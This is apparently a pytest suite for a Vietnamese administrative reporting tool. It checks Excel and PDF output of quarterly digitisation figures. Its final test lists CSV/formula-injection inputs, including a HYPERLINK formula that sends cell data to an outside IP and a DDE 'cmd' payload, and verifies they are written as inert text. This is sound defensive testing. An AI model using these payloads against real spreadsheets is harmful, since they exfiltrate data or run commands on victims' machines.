"""The report of a period, as words, Excel and paper: the same figures, and every dossier behind them."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import openpyxl
import pypdfium2 as pdfium
import pytest

from desktop.document.file.check import check_pdfa
from desktop.machine.settings import Settings
from desktop.report.period import quarter
from desktop.report.printed import report_pdf
from desktop.report.reports import Reports
from desktop.report.workbook import report_xlsx
from tests.report.rows import COPY, DossierRow, PaperRow, any_dossiers, code_of, put
from tests.report.sheet import Computed
from tests.samples import MORNING
from tests.store.conftest import place, secrets, store  # noqa: F401
from tests.store.filling import fill

AT = datetime(2026, 4, 1, 2, 0, tzinfo=UTC)
UNIT = "Trung tâm Phục vụ hành chính công xã Mẫu"
COUNTER = Settings(unit_name=UNIT, unit_above="Ủy ban nhân dân xã Mẫu", unit_place="Xã Mẫu")
QUARTER = quarter(2026, 1)


def text_of(pdf: bytes) -> str:
    document = pdfium.PdfDocument(pdf)
    text = " ".join(" ".join(page.get_textpage().get_text_range().split()) for page in document)
    document.close()
    return text


def test_what_a_counter_has_taken_in_is_counted_as_it_lies_in_the_store(store):  # noqa: F811
    work = fill(store, dossier_count=5, confirmed=2)
    report = Reports(store).digitisation(quarter(2026, 1))
    synchronised = report.definition.indicators[-1]
    share = report.share(synchronised)
    assert (share.met, share.due, share.percent) == (2, 5, "40.00")
    assert set(report.missing(synchronised)) == {dossier.code for dossier in work.dossiers[2:]}
    assert report.note == "Số liệu cục bộ, 3 hồ sơ chưa đồng bộ."
    assert list(report.counted.days.values()) == [5]
    assert next(iter(report.counted.days)) == MORNING.date()
    assert report.as_lines()[-1] == report.note


def test_every_formula_gives_the_figure_that_was_counted(store):  # noqa: F811
    put(store, any_dossiers(300, seed=5))
    report = Reports(store).digitisation(QUARTER)
    data = report_xlsx(report, UNIT, AT)
    written, computed = openpyxl.load_workbook(io.BytesIO(data), data_only=True), Computed(data)
    places = computed.formulas()
    assert len(places) > 100
    for sheet, cell in places:
        assert computed.value(sheet, cell) == written[sheet][cell].value, (sheet, cell)
    figures = {row[0]: row for row in written["Chỉ số"].iter_rows(values_only=True)}
    for indicator in report.definition.indicators:
        share = report.share(indicator)
        row = figures[f"{indicator.id} {indicator.name}"]
        assert row[1:] == (share.met, share.due, float(share.percent), share.unconfirmed)
    for counter in report.definition.counters:
        assert figures[counter.name][1] == report.whole.counts[counter.id]


def test_the_workbook_says_whose_figures_these_are_and_names_every_dossier(store):  # noqa: F811
    put(store, [DossierRow(), DossierRow(procedure=COPY)])
    book = openpyxl.load_workbook(
        io.BytesIO(report_xlsx(Reports(store).digitisation(QUARTER), UNIT, AT)), data_only=True
    )
    figures = [row[:2] for row in book["Chỉ số"].iter_rows(values_only=True, max_row=5)]
    assert figures[1:] == [
        ("Đơn vị", UNIT),
        ("Kỳ báo cáo", "từ 01/01/2026 đến 31/03/2026"),
        ("Lập lúc", "01/04/2026 09:00:00 +07:00"),
        ("Phạm vi số liệu", "Số liệu cục bộ, 2 hồ sơ chưa đồng bộ."),
    ]
    rows = list(book["Hồ sơ"].iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [code_of(0), code_of(1)]
    assert [row[7] for row in rows[1:]] == ["chưa đạt", "không tính"]


def test_a_period_in_which_nothing_came_gives_no_number(store):  # noqa: F811
    put(store, [])
    data = report_xlsx(Reports(store).digitisation(QUARTER), UNIT, AT)
    computed = Computed(data)
    shares = [cell for sheet, cell in computed.formulas() if sheet == "Chỉ số" and cell.startswith("D")]
    assert {computed.value("Chỉ số", cell) for cell in shares} == {"N/A"}
    assert "N/A" in text_of(report_pdf(Reports(store).digitisation(QUARTER), COUNTER, AT))


def test_the_print_is_laid_out_as_an_administrative_document_and_is_kept_for_long(store):  # noqa: F811
    put(store, any_dossiers(60, seed=6))
    report = Reports(store).digitisation(QUARTER)
    pdf = report_pdf(report, COUNTER, AT)
    assert check_pdfa(pdf) == []
    text = text_of(pdf)
    share = report.share(report.definition.indicators[0])
    for part in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "ỦY BAN NHÂN DÂN XÃ MẪU",
        "Số: ……/BC-……",
        "Xã Mẫu, ngày 01 tháng 04 năm 2026",
        "BÁO CÁO",
        "quý I/2026",
        "Nơi nhận:",
        "THỦ TRƯỞNG ĐƠN VỊ",
        share.percent.replace(".", ","),
        report.note,
    ):
        assert part in text
    # Nation right, agency left, both above the type of document.
    page = pdfium.PdfDocument(pdf)[0]
    words = page.get_textpage()

    def box(part: str) -> tuple[float, float, float, float]:
        index, _ = words.search(part).get_next()
        left, low, right, high = words.get_charbox(index)
        return left, low, right, high

    nation, agency, kind = box("CỘNG HÒA"), box("TRUNG TÂM"), box("BÁO CÁO")
    assert agency[0] < page.get_width() / 2 < nation[0] + 100
    assert min(nation[1], agency[1]) > kind[3]


def test_a_long_list_goes_over_many_sheets_and_loses_none(store):  # noqa: F811
    put(store, [DossierRow() for _ in range(700)])
    pdf = report_pdf(Reports(store).digitisation(QUARTER), COUNTER, AT)
    text = text_of(pdf)
    assert len(pdfium.PdfDocument(pdf)) > 1
    assert all(code_of(number) in text for number in range(700))


# What a spreadsheet would compute, or ask another program for, if it stood in a cell as a formula.
LIVE = (
    "=1+1",
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "#REF!",
    "=\x00\x0b1+1",
    "00123",
    "1e5",
    "<f>1+1</f><v/>",
    "=\"</f><v/></c>",
)  # fmt: skip


@pytest.mark.parametrize("words", LIVE)
def test_what_others_wrote_is_text_in_every_cell_and_never_a_formula(store, words):  # noqa: F811
    row = DossierRow(unit=words, official=words, papers=(PaperRow(),))
    put(store, [row, replace(row, official="canbo.mau")])
    report = Reports(store).digitisation(QUARTER)
    data = report_xlsx(report, words, AT)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/")]
    # As the file itself says it: no library's reading is believed.
    formulas = [formula for sheet in sheets for formula in re.findall(r"<f>(.*?)</f>", sheet)]
    assert formulas
    assert all(re.match(r"(COUNTIFS?|SUMPRODUCT|IF)\(", formula) for formula in formulas)
    assert not any(' t="e"' in sheet for sheet in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [book["Chỉ số"]["B2"], book["Theo đơn vị"]["A2"], book["Hồ sơ"]["C2"], book["Hồ sơ"]["D2"]]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.value for cell in cells} == {re.sub(r"[\x00\x0b]", " ", words)}
    assert all(cell.quotePrefix for cell in cells) or words[0] not in "=+-@\t\r"
    computed = Computed(data)
    written = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    for sheet, cell in computed.formulas():
        assert computed.value(sheet, cell) == written[sheet][cell].value
